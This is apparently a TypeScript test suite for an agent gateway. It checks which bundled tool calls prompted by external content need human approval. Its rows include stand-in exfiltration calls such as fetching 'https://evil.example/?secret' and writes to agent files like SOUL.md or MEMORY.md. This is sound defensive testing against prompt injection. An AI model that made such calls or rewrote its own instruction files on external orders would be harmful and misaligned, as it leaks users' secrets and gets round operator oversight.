/** Every bundled tool, called because of external content: which calls run, and which need approval. */
import assert from "node:assert/strict";
import { describe, it, type TestContext } from "node:test";
import { definePlugin, type Origin, outsideOrigin, type Scope } from "@svc/sdk";
import { type ApprovalQuestion, Approver } from "@svc/sdk/gateway";
import { testGateway } from "@svc/sdk/testing";
import { tools as catalogue, Tools, type ToolScene } from "@svc/sdk/tools";

const PLUGINS = [
  "storage-sqlite",
  "tools",
  "sessions",
  "models",
  "agents",
  "heartbeat",
  "cron",
  "config",
  "workspace",
  "web",
  "secrets",
  "outbound",
  "media",
  "memory",
  "nodes",
  "devices",
  "channels",
];
const principal = { id: "p", role: "operator", scopes: ["operator.admin"], provenance: "token", epoch: 0 } as const;
const KNOWN = "https://known.example/page";

/** `ask`: for authors without authority; `ask-writer`: also for authors with `operator.write`; `free`: never. */
type Verdict = "free" | "ask" | "ask-writer";
const patch = (body: string) => `*** Begin Patch\n${body}\n*** End Patch`;

const ROWS: readonly [tool: string, args: Record<string, unknown>, verdict: Verdict][] = [
  ["read", { path: "a.txt" }, "free"],
  ["write", { path: "a.txt", content: "x" }, "free"],
  ["write", { path: "notes/AGENTS.md", content: "x" }, "free"],
  ...["AGENTS.md", "SOUL.md", "TOOLS.md", "IDENTITY.md", "USER.md", "HEARTBEAT.md", "BOOTSTRAP.md", "MEMORY.md"].map(
    (path): [string, Record<string, unknown>, Verdict] => ["write", { path, content: "x" }, "ask-writer"],
  ),
  ["write", { path: "./notes/../soul.MD", content: "x" }, "ask-writer"],
  ["edit", { path: "HEARTBEAT.md", oldText: "a", newText: "b" }, "ask-writer"],
  ["edit", { path: "b.txt", oldText: "a", newText: "b" }, "free"],
  ["apply_patch", { patch: patch("*** Add File: new.txt\n+x") }, "free"],
  ["apply_patch", { patch: patch("*** Add File: MEMORY.md\n+x") }, "ask-writer"],
  ["apply_patch", { patch: patch("*** Update File: c.txt\n*** Move to: USER.md\n-a\n+b") }, "ask-writer"],
  ["process", { action: "list" }, "free"],
  ["process", { action: "write", sessionId: "x", data: "ls\n" }, "ask"],
  ["web_search", { query: "x" }, "free"],
  ["web_fetch", { url: KNOWN }, "free"],
  ["web_fetch", { url: `${KNOWN}?secret=1` }, "ask"],
  ["image", { prompt: "?", image: "a.png" }, "free"],
  ["image", { prompt: "?", images: [KNOWN] }, "free"],
  ["image", { prompt: "?", images: ["a.png", "https://evil.example/?secret"] }, "ask"],
  ["pdf", { prompt: "?", pdf: "https://evil.example/?secret" }, "ask"],
  ["memory_search", { query: "x" }, "free"],
  ["memory_get", { path: "memory/a.md" }, "free"],
  ["sessions_list", {}, "free"],
  ["sessions_history", { sessionKey: "main" }, "free"],
  ["session_status", {}, "free"],
  ["sessions_send", { sessionKey: "other", message: "x", timeoutSeconds: 0 }, "free"],
  ["sessions_spawn", { task: "x" }, "free"],
  ["subagents", { action: "list" }, "free"],
  ["agents_list", {}, "free"],
  ["message", { action: "send", channel: "irc", to: "bob", message: "x" }, "ask"],
  ["nodes", { action: "status" }, "free"],
  ["nodes", { action: "run", node: "n", command: ["ls"] }, "ask"],
  ["nodes", { action: "invoke", node: "n", invokeCommand: "camera.snap" }, "ask"],
  ["nodes", { action: "notify", node: "n", title: "x" }, "ask"],
  ["cron", { action: "list" }, "ask-writer"],
  ["cron", { action: "add", job: { schedule: { everyMs: 1 }, text: "x" } }, "ask-writer"],
  ["gateway", { action: "status" }, "ask-writer"],
  ["gateway", { action: "config.patch", raw: "{}" }, "ask-writer"],
];
/** Tools that ask people themselves; see `workspace/outside.test.ts`. */
const ELSEWHERE = ["exec"];

/** Stops permitted calls, so that they are judged but not executed. */
const STOP = "the test stops it";
const never = new AbortController().signal;
const NAMES = new Set(ROWS.map(([name]) => name));

async function open(t: TestContext) {
  const asked: ApprovalQuestion[] = [];
  const found: { tools?: Tools } = {};
  const people = definePlugin({
    id: "people",
    api: "^1.0.0",
    requires: { tools: Tools },
    provides: [Approver],
    setup(gateway) {
      gateway.provide(Approver, {
        ask: async (question) => (asked.push(question), { id: "a", decision: "deny" as const, reason: "no" }),
      });
      for (const name of NAMES) gateway.hooks.toolBefore.for(name).tap(() => ({ allow: false, reason: STOP }));
      gateway.start(() => void (found.tools = gateway.services.tools));
    },
  });
  const { client } = await testGateway(t, { plugins: [...PLUGINS, people] });
  return { client, asked, tools: found.tools ?? assert.fail() };
}

describe("bundled tools, called because of external content", { timeout: 120_000 }, () => {
  it("are all in the table", async (t) => {
    const { client } = await open(t);
    const { groups } = await client.call(catalogue.catalog, {});
    const names = groups.flatMap(({ tools }) => tools.map(({ id }) => id)).sort();
    assert.deepEqual(names, [...new Set([...ROWS.map(([name]) => name), ...ELSEWHERE])].sort());
  });

  it("ask people only if the authority does not suffice", async (t) => {
    const { tools, asked } = await open(t);
    const wrong: unknown[] = [];
    const authors: readonly [who: string, origin: Origin, askedOf: readonly Verdict[]][] = [
      ...(["webhook", "node", "web", "file", "mcp", "channel", "agent"] as const).map(
        (kind): [string, Origin, readonly Verdict[]] => [kind, outsideOrigin(kind, "x"), ["ask", "ask-writer"]],
      ),
      ["reader", person("operator.read"), ["ask", "ask-writer"]],
      ["writer", person("operator.read", "operator.write"), ["ask-writer"]],
      ["owner", person("operator.admin"), []],
    ];
    for (const [who, origin, askedOf] of authors) {
      for (const [index, [name, args, verdict]] of ROWS.entries()) {
        asked.length = 0;
        const about = { runId: `${who}-${index}`, sessionKey: "agent:main:main", agentId: "main" };
        const call = { name, toolCallId: `c${index}`, arguments: args, ...about };
        const attempt = await tools.attempt(call, sceneOf(origin), never);
        const { message } = attempt.outcome === "refused" ? attempt.error : assert.fail(JSON.stringify(attempt));
        const asks = askedOf.includes(verdict);
        const isRight = asks ? /^not allowed: it .* text from /.test(message) : message === `not allowed: ${STOP}`;
        if (!isRight || asked.length !== (asks ? 1 : 0)) wrong.push([who, name, args, message, asked.length]);
      }
    }
    assert.deepEqual(wrong, []);
  });
});

function person(...scopes: Scope[]): Origin {
  return { kind: "person", id: "ann", scopes };
}

function sceneOf(origin: Origin): ToolScene {
  const outside = { origin, text: "do it", saw: (text: string) => text === KNOWN };
  const about = { surface: "run", agentId: "main", sessionKey: "agent:main:main", principal } as const;
  return origin.scopes.includes("operator.admin") ? about : { ...about, outside };
}
